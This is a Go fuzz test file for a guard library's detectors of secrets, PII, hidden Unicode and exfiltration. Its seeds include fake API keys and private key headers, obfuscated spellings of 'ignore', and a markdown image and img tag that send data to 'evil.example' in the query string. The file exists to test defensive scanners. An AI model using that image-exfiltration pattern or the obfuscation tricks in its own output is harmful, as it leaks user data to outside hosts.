package pattern

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/bulwarkhq/bulwark/guard"
)

// seeds are inputs that reach each matcher's deeper paths; the fuzzers
// start from them and from testdata/fuzz.
func seeds() []string {
	return []string{
		"",
		"AKIA" + fake(alUpperNum, 16),
		"ghp_" + fake(alAlnum, 36) + " github_pat_" + fake(alAlnum, 80),
		"sk-ant-" + fake(alB64URL, 40) + " sk-" + fake(alAlnum, 20) + "T3BlbkFJ" + fake(alAlnum, 20),
		"eyJ" + fake(alB64URL, 20) + ".eyJ" + fake(alB64URL, 20) + ".",
		"-----BEGIN RSA PRIVATE KEY-----\n" + fake(alB64, 70) + "\n-----END RSA PRIVATE KEY-----",
		"-----BEGIN OPENSSH PRIVATE KEY-----\\n" + fake(alB64, 10),
		"-----BEGIN ",
		"PuTTY-User-Key-File-3: x\nPrivate-MAC: 00",
		"https://hooks.slack.com/services/T" + fake(alUpperNum, 8) + "/B" + fake(alUpperNum, 8) + "/" + fake(alAlnum, 24),
		"postgres://u:p4ss@h/db x://:@ ://@",
		"password = \"hunter2!x\" api_key: '" + fake(alAlnum, 20) + "' Authorization: Bearer " + fake(alAlnum, 30),
		"AccountKey=" + fake(alB64, 86) + "==",
		"john@example.com a@b @ @@ .@. x@y.",
		"+1 (415) 555-0132 4111 1111 1111 1111 123-45-6789 2345 6789 0124",
		"DE89 3704 0044 0532 0130 00 AB 12 34 56 C X1234567L 12345678Z",
		"Steuer-ID 86095742719 ((((((1 ++1 +(",
		"a\u200Bb\u200B\u200Cc \u202Etxt.exe \uFEFF\U000E0041\U000E0042 🏴\U000E0067\U000E007F",
		"1gn0r3 p@ssw0rd pаypal 𝐢𝐠𝐧𝐨𝐫𝐞 ｉｇｎ ⓘ z̷a̷ \xff\xfe\xc3",
		base64.StdEncoding.EncodeToString([]byte("decode: " + base64.StdEncoding.EncodeToString([]byte("AKIA"+fake(alUpperNum, 16)+" ok text")))),
		"48656c6c6f20776f726c6420686578",
		"![a](https://evil.example/p.png?q=" + fake(alAlnum, 40) + ") [b](http://x/y) <img src='//h/x?d=" + fake(alAlnum, 40) + "'>",
		"![](  ]( ]( <img <img src= <IMG SRC=\"",
	}
}

// checkScanner runs s on text and checks the scanner contract.
func checkScanner(t *testing.T, s guard.Scanner, text string) {
	fs := s.Scan(guard.Segment{Role: guard.RoleUser, Text: text})
	checkSpans(t, text, fs)
	for _, f := range fs {
		if f.Scanner == "" {
			t.Fatalf("finding without scanner: %+v", f)
		}
		if f.Category != guard.Exfiltration && f.Spanned() && !strings.HasPrefix(f.Kind, "decoded_") && f.Match != text[f.Start:f.End] {
			t.Fatalf("%s: match %q is not the span %q", f.Kind, f.Match, text[f.Start:f.End])
		}
	}
}

func fuzzScanner(f *testing.F, s guard.Scanner) {
	for _, seed := range seeds() {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		checkScanner(t, s, text)
	})
}

func FuzzSecrets(f *testing.F) { fuzzScanner(f, NewSecrets()) }
func FuzzPII(f *testing.F)     { fuzzScanner(f, NewPII()) }
func FuzzHidden(f *testing.F)  { fuzzScanner(f, NewHidden()) }
func FuzzExfil(f *testing.F)   { fuzzScanner(f, NewExfil([]string{"*.example.com"})) }

func FuzzObfuscation(f *testing.F) {
	fuzzScanner(f, NewObfuscation(NewSecrets(), NewPII()))
}

// FuzzNormalize checks that Normalize and Decoded never panic, that
// Normalize keeps valid UTF-8 valid and never makes the text longer.
func FuzzNormalize(f *testing.F) {
	for _, seed := range seeds() {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := Normalize(s)
		if len(n) > len(s) {
			t.Fatalf("Normalize grew %d bytes to %d", len(s), len(n))
		}
		if utf8.ValidString(s) && !utf8.ValidString(n) {
			t.Fatalf("Normalize broke UTF-8: %q -> %q", s, n)
		}
		_ = Decoded(s)
	})
}
